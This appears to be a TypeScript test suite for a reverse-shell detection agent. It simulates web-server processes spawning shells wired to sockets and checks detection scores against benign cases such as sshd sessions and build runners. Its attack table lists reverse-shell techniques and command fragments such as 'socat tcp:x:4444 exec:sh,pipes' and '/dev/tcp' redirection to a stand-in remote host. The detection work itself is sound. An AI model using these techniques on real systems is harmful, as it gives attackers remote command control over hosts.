import assert from "node:assert/strict";
import { test } from "node:test";
import type { ProcessRef } from "../../../core/entity.ts";
import { HABITUAL } from "../../novelty/habitual.ts";
import {
  fd,
  fullHost,
  mixedStdio,
  pipeStdio,
  SceneHost,
  socketStdio,
  TTY,
} from "../../scenes/process-scenes.fixture.ts";
import { ReverseShellAgent } from "./reverse-shell.ts";

const REMOTE = { address: "203.0.113.66", port: 4444 };
const connection = fd("socket", 77, "ipv4");

function web(host: SceneHost): ProcessRef {
  const init = host.there("/usr/lib/systemd/systemd", undefined, { uid: 0 });
  return host.there("/usr/bin/node", init, { cgroup: "/system.slice/web.service" });
}

/** Each ends in a remote hand on a command interpreter; all are told with at least this weight. */
const ATTACKS: Readonly<Record<string, { least: number; play: (host: SceneHost) => void }>> = {
  "bash /dev/tcp": {
    least: 0.9,
    play: (host) => void host.start(web(host), "/bin/bash", { stdio: socketStdio(77), argv: ["bash", "-i"] }),
  },
  "python's dup2 and a shell": {
    least: 0.9,
    play: (host) => {
      const python = host.start(web(host), "/usr/bin/python3.11", { argv: ["python3", "-c", "..."] });
      host.connect(python, REMOTE.address, REMOTE.port);
      host.start(python, "/bin/sh", { stdio: socketStdio(77), argv: ["/bin/sh", "-i"] });
    },
  },
  "nc -e behind a double fork": {
    least: 0.9,
    play: (host) => void host.become(host.fork(host.fork(web(host))), "/bin/dash", { stdio: socketStdio(77) }),
  },
  "a bind shell: the port is its own": {
    least: 0.9,
    play: (host) => void host.start(web(host), "/bin/sh", { stdio: { ...socketStdio(77), localPort: 4444 } }),
  },
  "another path to the shell's file": {
    least: 0.9,
    play: (host) => {
      host.start(web(host), "/bin/bash", { ino: 4242, argv: ["bash", "-c", "true"] });
      host.start(web(host), "/tmp/sshd", { ino: 4242, stdio: socketStdio(77) });
    },
  },
  "a renamed copy, that runs what it is told": {
    least: 0.9,
    play: (host) => {
      const copy = host.start(web(host), "/var/tmp/updater", { stdio: socketStdio(77) });
      for (const tool of ["id", "uname", "cat"]) host.start(copy, `/usr/bin/${tool}`, { stdio: socketStdio(77) });
    },
  },
  memfd: {
    least: 0.45,
    play: (host) =>
      void host.start(web(host), "/proc/self/fd/5", { exePath: "/memfd:x", memfd: true, stdio: socketStdio(77) }),
  },
  "perl itself, with exec": {
    least: 0.7,
    play: (host) =>
      void host.start(web(host), "/usr/bin/perl", { stdio: socketStdio(77), argv: ["perl", "-e", "..."] }),
  },
  "commands that read and write a connection by halves, slowly": {
    least: 0.8,
    play: (host) => {
      const bash = host.start(web(host), "/bin/bash", { argv: ["bash", "-c", "exec 5<>/dev/tcp/..."] });
      host.connect(bash, REMOTE.address, REMOTE.port);
      host.start(bash, "/usr/bin/cat", { stdio: mixedStdio(connection, fd("pipe", 3), REMOTE) });
      for (let i = 0; i < 5; i++) {
        host.wait(120_000);
        host.start(host.fork(bash), "/usr/bin/id", { stdio: mixedStdio(fd("pipe", 3), connection, REMOTE) });
      }
    },
  },
  "socat with pipes": {
    least: 0.65,
    play: (host) => {
      const socat = host.start(web(host), "/usr/bin/socat", { argv: ["socat", "tcp:x:4444", "exec:sh,pipes"] });
      host.connect(socat, REMOTE.address, REMOTE.port);
      host.start(socat, "/bin/sh", { stdio: pipeStdio(1, 2) });
    },
  },
  "a renamed copy behind pipes": {
    least: 0.9,
    play: (host) => {
      const relay = host.start(web(host), "/tmp/relay");
      host.connect(relay, REMOTE.address, REMOTE.port);
      const copy = host.start(relay, "/tmp/worker", { stdio: pipeStdio(1, 2) });
      for (const tool of ["id", "ls"]) host.start(copy, `/usr/bin/${tool}`, { stdio: pipeStdio(1, 2) });
    },
  },
  "python's pty.spawn": {
    least: 0.5,
    play: (host) => {
      const python = host.start(web(host), "/usr/bin/python3.11", { argv: ["python3", "-c", "..."] });
      host.connect(python, REMOTE.address, REMOTE.port);
      host.start(python, "/bin/bash", { stdio: TTY });
    },
  },
};

for (const [name, { least, play }] of Object.entries(ATTACKS))
  test(`reverse shell: ${name}`, () => {
    const host = fullHost();
    play(host);
    const most = Math.max(0, ...host.told("reverse-shell"));
    assert.ok(most >= least, `${most}`);
  });

/** All of these have connections or pipes as descriptors, and none is told with more than `most`. */
const ORDINARY: Readonly<Record<string, { most: number; play: (host: SceneHost) => void }>> = {
  "a session of sshd": {
    most: 0,
    play: (host) => {
      const sshd = host.there("/usr/sbin/sshd", undefined, { uid: 0 });
      const session = host.start(sshd, "/usr/lib/openssh/sshd-session", { stdio: socketStdio(5), uid: 0 });
      const socket = { family: "ipv4", type: 1, protocol: 6, path: "", remote: REMOTE } as const;
      const traits = { upperLayer: false, memfd: false, deleted: false };
      const file = { dev: 8, ino: 5 };
      host.call(session, "accept", "accept", {
        result: 4,
        fd: { number: 4, type: "socket", path: "", file, mode: 0o140777, traits, socket },
      });
      const shell = host.start(session, "/bin/bash", { stdio: TTY, argv: ["-bash"] });
      host.start(shell, "/usr/bin/ls", { stdio: TTY });
      host.start(session, "/bin/bash", { stdio: pipeStdio(1, 2), argv: ["bash", "-s"] });
    },
  },
  "a service that its manager starts at a connection": {
    most: 0,
    play: (host) => {
      const init = host.there("/usr/lib/systemd/systemd", undefined, { uid: 0 });
      host.start(init, "/usr/bin/git", { stdio: socketStdio(9), argv: ["git", "daemon", "--inetd"] });
    },
  },
  "a web application's commands": {
    most: 0,
    play: (host) => {
      const app = web(host);
      host.connect(app, "10.0.0.5", 5432);
      const sh = host.start(app, "/bin/sh", { stdio: pipeStdio(1, 2), argv: ["sh", "-c", "convert a b"] });
      host.start(sh, "/usr/bin/convert", { stdio: pipeStdio(1, 2), argv: ["convert", "a", "b"] });
      host.start(app, "/srv/app/bin/thumb", { stdio: pipeStdio(3, 4), argv: ["thumb", "a.png"] });
    },
  },
  "a person's terminal, and what is piped there": {
    most: 0,
    play: (host) => {
      const bash = host.there("/bin/bash", host.there("/usr/sbin/sshd"));
      host.start(bash, "/bin/bash", { stdio: TTY });
      const curl = host.start(bash, "/usr/bin/curl", { stdio: mixedStdio(fd("device", 0x8800001), fd("pipe", 4)) });
      host.connect(curl, "198.51.100.80", 443);
      host.start(bash, "/bin/sh", { stdio: mixedStdio(fd("pipe", 4), fd("device", 0x8800001)) });
    },
  },
  "a shell on the port of a debugger's listening socket": {
    most: 0,
    play: (host) =>
      void host.start(web(host), "/bin/sh", { stdio: { fds: [connection, connection, connection], localPort: 80 } }),
  },
};

for (const [name, { most, play }] of Object.entries(ORDINARY))
  test(`no reverse shell: ${name}`, () => {
    const host = fullHost();
    play(host);
    assert.ok(Math.max(0, ...host.told("reverse-shell")) <= most, String(host.told("reverse-shell")));
    assert.deepEqual(host.incidents, []);
  });

test("a build agent that feeds shells through pipes every hour is a habit after a day, also over a restart", () => {
  const agent = new ReverseShellAgent();
  const host = new SceneHost([agent]);
  const runner = host.there("/usr/bin/gitlab-runner", undefined, { cgroup: "/system.slice/runner.service" });
  const build = (on: SceneHost, by: ProcessRef): void => {
    on.connect(by, "198.51.100.7", 443);
    on.start(by, "/bin/bash", { stdio: pipeStdio(1, 2), argv: ["bash", "--login"] });
  };
  for (let hour = 0; hour <= 25; hour++) {
    build(host, runner);
    host.wait(3_600_000);
  }
  assert.equal(host.told("reverse-shell")[0], 0.65);
  assert.equal(host.told("reverse-shell").at(-1), 0.65 * HABITUAL.factor);
  const later = new ReverseShellAgent();
  later.recall(JSON.parse(JSON.stringify(agent.remember())));
  const again = new SceneHost([later]);
  again.nowMs = host.nowMs;
  build(again, again.there("/usr/bin/gitlab-runner", undefined, { cgroup: "/system.slice/runner.service" }));
  assert.deepEqual(again.told("reverse-shell"), [0.65 * HABITUAL.factor]);
});

test("a web server whose first shell ever has a connection as its terminal is an incident", () => {
  const host = fullHost();
  const app = web(host);
  for (let i = 0; i < 40; i++) host.start(app, "/usr/bin/date");
  const shell = host.start(app, "/bin/bash", { stdio: socketStdio(77), argv: ["bash", "-i"] });
  host.start(shell, "/usr/bin/id", { stdio: socketStdio(77) });
  host.tick();
  assert.equal(host.incidents.length, 1);
  assert.ok(host.incidents[0]?.kinds.includes("reverse-shell"));
});
